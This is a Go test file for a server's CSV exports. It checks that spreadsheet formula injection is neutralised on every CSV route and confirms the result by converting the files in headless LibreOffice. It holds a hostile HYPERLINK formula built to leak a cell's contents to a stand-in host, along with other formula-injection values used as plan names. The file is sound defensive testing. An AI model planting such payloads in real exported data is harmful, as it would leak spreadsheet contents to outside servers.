package server

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/simplifiedchinese"

	"github.com/caili/caili/internal/csvout"
	"github.com/caili/caili/server/chart"
)

// hostileLink is the name of issue 20 §7: LibreOffice turned it into a
// live formula in the CSVs that wrote it as it is.
const hostileLink = `=HYPERLINK("http://x/?leak="&C2,"x")`

// evilPlan is the tiny plan with names a spreadsheet would run: a
// sub-district's, a staff category's, a factor's and the plan's own.
func evilPlan(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile("testdata/plans/tiny.toml")
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	for _, r := range [][2]string{
		{`name = "东街道"`, `name = ` + strconv.Quote(hostileLink)},
		{`name = "西街道"`, `name = "@SUM(1+1)"`},
		{`name = "公务员"`, `name = "-2+3"`},
		{`name = "工作任务量"`, `name = "+1+2"`},
		{`name = "老年助餐"`, `name = "\t=1+1"`},
	} {
		if !strings.Contains(s, r[0]) {
			t.Fatalf("tiny.toml has no %s", r[0])
		}
		s = strings.Replace(s, r[0], r[1], 1)
	}
	return s
}

// csvRoutes are every route that answers CSV, for plan evil.
func csvRoutes() []string {
	p := "/api/v1/plans/evil/"
	out := []string{p + "allocations.csv", p + "allocations.csv?header=zh", p + "allocations.csv?encoding=gb18030",
		p + "by/function_code.csv", p + "by/economic_code.csv",
		p + "compare.csv?" + whatIfQuery, p + "sensitivity.csv", p + "template.csv"}
	for _, k := range chart.Kinds() {
		q := ""
		if k.String() == "lorenz" {
			q = "?per=population"
		}
		out = append(out, p+"charts/"+k.String()+".csv"+q)
	}
	return out
}

// TestCSVInjection walks every CSV route with hostile names: no cell
// begins a formula (a number may begin with - or +), and the names are
// there, as text (issue 20 §7).
func TestCSVInjection(t *testing.T) {
	e := newEnv(t, "")
	e.write("evil.toml", evilPlan(t))
	if err := e.srv.Reload(); err != nil {
		t.Fatal(err)
	}
	bodies := map[string][]byte{}
	for _, u := range csvRoutes() {
		w := e.Get(u, http.StatusOK)
		body := w.Body.Bytes()
		if strings.Contains(u, "gb18030") {
			var err error
			if body, err = simplifiedchinese.GB18030.NewDecoder().Bytes(body); err != nil {
				t.Fatal(err)
			}
		}
		bodies[u] = body
		checkCSVCells(t, u, body)
	}
	// The calculate route answers CSV too.
	w := e.do(http.MethodPost, "/api/v1/calculate?format=csv", []byte(evilPlan(t)))
	if w.Code != http.StatusOK {
		t.Fatalf("calculate: %d %s", w.Code, w.Body)
	}
	checkCSVCells(t, "calculate", w.Body.Bytes())
	if !bytes.Contains(bodies[csvRoutes()[0]], []byte(`'=HYPERLINK(`)) {
		t.Errorf("allocations.csv lacks the neutralised name:\n%s", bodies[csvRoutes()[0]])
	}
	if !bytes.Contains(bodies["/api/v1/plans/evil/sensitivity.csv"], []byte(`'+1+2`)) {
		t.Errorf("sensitivity.csv lacks the neutralised lever")
	}
	t.Run("LibreOffice", func(t *testing.T) { openInLibreOffice(t, bodies) })
}

// checkCSVCells fails on a cell that begins a formula.
func checkCSVCells(t *testing.T, route string, body []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", route, err)
	}
	for i, row := range rows {
		for j, v := range row {
			if csvout.Unsafe(v) {
				t.Errorf("%s: row %d column %d begins a formula: %q", route, i+1, j+1, v)
			}
		}
	}
}

// openInLibreOffice opens every CSV in LibreOffice (as a person would,
// UTF-8, comma-separated, formulas evaluated) and saves it as a workbook:
// none may hold a formula. Without LibreOffice the test is skipped, except
// under CI=true, where it fails.
func openInLibreOffice(t *testing.T, bodies map[string][]byte) {
	bin, err := exec.LookPath("soffice")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("soffice (LibreOffice) not found (CI=true: it is required)")
		}
		t.Skip("soffice (LibreOffice) not found")
	}
	dir := t.TempDir()
	var ins []string
	for u, b := range bodies {
		name := filepath.Join(dir, strconv.Itoa(len(ins))+".csv")
		if err := os.WriteFile(name, b, 0o644); err != nil {
			t.Fatal(err)
		}
		ins = append(ins, name)
		t.Logf("%s: %s", filepath.Base(name), u)
	}
	out := filepath.Join(dir, "out")
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	// 44 comma, 34 quote, 76 UTF-8, 1 from the first line; formulas are
	// evaluated (the default of "Evaluate formulas" is on).
	args := append([]string{"-env:UserInstallation=file://" + filepath.Join(dir, "profile"), "--headless", "--norestore",
		"--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", out}, ins...)
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, b)
	}
	for _, in := range ins {
		x := filepath.Join(out, strings.TrimSuffix(filepath.Base(in), ".csv")+".xlsx")
		if n := formulasIn(t, x); n != 0 {
			t.Errorf("%s: %d formulas", filepath.Base(in), n)
		}
	}
	// The check can see a formula: a CSV of one, unneutralised.
	bad := filepath.Join(dir, "bad.csv")
	if err := os.WriteFile(bad, []byte("\ufeffid,name\r\nx,"+strings.ReplaceAll(strconv.Quote(hostileLink), `\"`, `""`)+"\r\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd = exec.CommandContext(ctx, bin, append(args[:len(args)-len(ins)], bad)...)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, b)
	}
	if n := formulasIn(t, filepath.Join(out, "bad.xlsx")); n == 0 {
		t.Error("an unneutralised formula is not seen as one: the check checks nothing")
	}
}

// formulasIn counts the formulas (<f> elements) of a workbook's sheets.
func formulasIn(t *testing.T, name string) int {
	t.Helper()
	zr, err := zip.OpenReader(name)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer zr.Close()
	n := 0
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		n += bytes.Count(b, []byte("<f>")) + bytes.Count(b, []byte("<f "))
	}
	return n
}
